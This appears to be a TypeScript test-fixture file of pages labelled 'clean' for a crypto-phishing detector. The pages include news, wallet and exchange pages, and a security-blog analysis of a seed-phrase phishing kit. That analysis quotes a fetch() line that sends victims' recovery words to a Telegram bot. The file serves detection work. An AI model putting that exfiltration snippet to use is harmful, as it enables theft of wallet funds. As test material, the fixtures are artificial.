import { htmlRoute, type Entry } from '../entry.js';
import { doc, footer, honestConnect } from '../parts/zw-kit.js';

export const entries: Entry[] = [
  {
    id: 'zw-ok-news-exchange-hack-ru',
    label: 'clean',
    kind: 'crypto-news',
    url: 'https://forklog.com/news/hakery-vyveli-s-birzhi-1-5-mlrd',
    body: doc('Хакеры вывели с биржи $1,5 млрд в ETH — ForkLog', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><p style="color:#888">Новости · 22.02.2025</p><h1>Хакеры вывели с биржи $1,5 млрд в ETH</h1>
<p>Злоумышленники получили контроль над холодным мультисиг-кошельком биржи, подменив интерфейс подписи транзакции. Биржа заявила, что покроет убытки клиентов, а вывод средств работает в штатном режиме.</p>
<p>Аналитики связали атаку с группировкой Lazarus. Эксперты советуют пользователям не переходить по ссылкам «компенсаций» и не вводить сид-фразы на сторонних сайтах.</p></article>`, { lang: 'ru' }),
  },
  {
    id: 'zw-ok-news-vi-airdrop-warning',
    label: 'clean',
    kind: 'crypto-news',
    url: 'https://coin68.com/canh-bao-lua-dao-airdrop-gia/',
    body: doc('Cảnh báo lừa đảo airdrop giả mạo — Coin68', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><h1>Cảnh báo: trang airdrop giả mạo đang đánh cắp ví</h1><p>Nhiều trang web giả mạo dự án lớn yêu cầu người dùng "kết nối ví" để nhận airdrop, sau đó yêu cầu ký giao dịch approve không giới hạn. Hãy luôn kiểm tra tên miền chính thức trên tài khoản X của dự án và dùng revoke.cash để thu hồi quyền.</p></article>`, { lang: 'vi' }),
  },
  {
    id: 'zw-ok-ishares-bitcoin-etf',
    label: 'clean',
    kind: 'legit-investment',
    url: 'https://www.ishares.com/us/products/333011/ishares-bitcoin-trust-etf',
    body: doc('iShares Bitcoin Trust ETF | IBIT', `
<div class="wrap" style="padding:40px 20px"><h1>iShares Bitcoin Trust ETF (IBIT)</h1><p>Seeks to reflect generally the performance of the price of bitcoin. NAV as of May 16, 2025: $59.12. Sponsor fee: 0.25%.</p>
<p style="font-size:13px;color:#666">Investing involves risk, including possible loss of principal. The Trust is not an investment company registered under the Investment Company Act of 1940. Bitcoin is highly volatile. Past performance does not guarantee future results.</p></div>${footer('BlackRock, Inc.')}`),
  },
  {
    id: 'zw-ok-tonkeeper-web',
    label: 'clean',
    kind: 'wallet-own-domain',
    url: 'https://tonkeeper.com/',
    body: doc('Tonkeeper — the wallet for TON', `
<section class="wrap" style="padding:60px 20px;text-align:center"><h1>Tonkeeper</h1><p>The easiest way to store, send and receive TON and tokens. Available for iOS, Android, desktop and as a browser extension.</p>
<a href="https://apps.apple.com/app/tonkeeper/id1587742107">App Store</a> · <a href="https://play.google.com/store/apps/details?id=com.ton_keeper">Google Play</a> · <a href="https://chromewebstore.google.com/detail/tonkeeper/omaabbefbmiijedngplfjmnooppbclkk">Chrome extension</a>
<p style="font-size:13px;color:#777">Your recovery phrase stays on your device. Tonkeeper support will never ask for it.</p></section>`),
  },
  {
    id: 'zw-ok-slowmist-zh-analysis',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://slowmist.medium.com/seed-phrase-phishing-kit-analysis-zh',
    body: doc('慢雾：助记词钓鱼套件分析', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><h1>助记词钓鱼套件分析</h1><p>近期我们发现大量仿冒 Trust Wallet、TokenPocket 的“钱包验证”页面。页面要求输入 12 个助记词，随后通过如下代码发送到 Telegram 机器人：</p>
<pre style="background:#f5f5f5;padding:12px;font-size:12px">fetch("https://api.telegram.org/bot&lt;TOKEN&gt;/sendMessage", { method: "POST", body: JSON.stringify({ chat_id: CHAT, text: words.join(" ") }) })</pre>
<p>建议：任何网页要求输入助记词均为钓鱼；请使用 MistTrack 追踪被盗资金。</p></article>`, { lang: 'zh-CN' }),
  },
  {
    id: 'zw-ok-kraken-2fa-recovery-help',
    label: 'clean',
    kind: 'help-article',
    url: 'https://support.kraken.com/hc/en-us/articles/reset-2fa',
    body: doc('How to reset two-factor authentication (2FA) | Kraken Support', `
<article class="wrap" style="max-width:760px;padding:40px 20px"><h1>Lost access to your 2FA device?</h1><p>If you have your master key, you can use it to reset 2FA from the sign-in page. Otherwise, start a 2FA reset request; we will ask you to verify your identity with a selfie and your ID, which can take a few days.</p>
<p><a href="https://www.kraken.com/sign-in/2fa-reset" style="background:#7132f5;color:#fff;padding:10px 18px;border-radius:20px;text-decoration:none">Start 2FA reset</a></p>
<p>Kraken will never call you unannounced and will never ask you to send funds to verify your account.</p></article>`),
  },
  {
    id: 'zw-ok-phantom-download-page',
    label: 'clean',
    kind: 'legit-wallet-download',
    url: 'https://phantom.com/download?s=2',
    body: doc('Download Phantom', `
<section class="wrap" style="padding:60px 20px;text-align:center;background:#ab9ff2"><h1>Download Phantom</h1><p>Available for Chrome, Brave, Firefox, Edge, iOS and Android. Solana, Ethereum, Base, Sui, Bitcoin and Polygon.</p>
<a href="https://chromewebstore.google.com/detail/phantom/bfnaelmomeimhlpmgjnjophhpkkoljpa" style="background:#fff;padding:14px 26px;border-radius:30px;text-decoration:none;color:#000">Add to Chrome</a> <a href="https://apps.apple.com/app/phantom-crypto-wallet/id1598432977" style="background:#000;color:#fff;padding:14px 26px;border-radius:30px;text-decoration:none">iOS</a></section>`),
  },
];
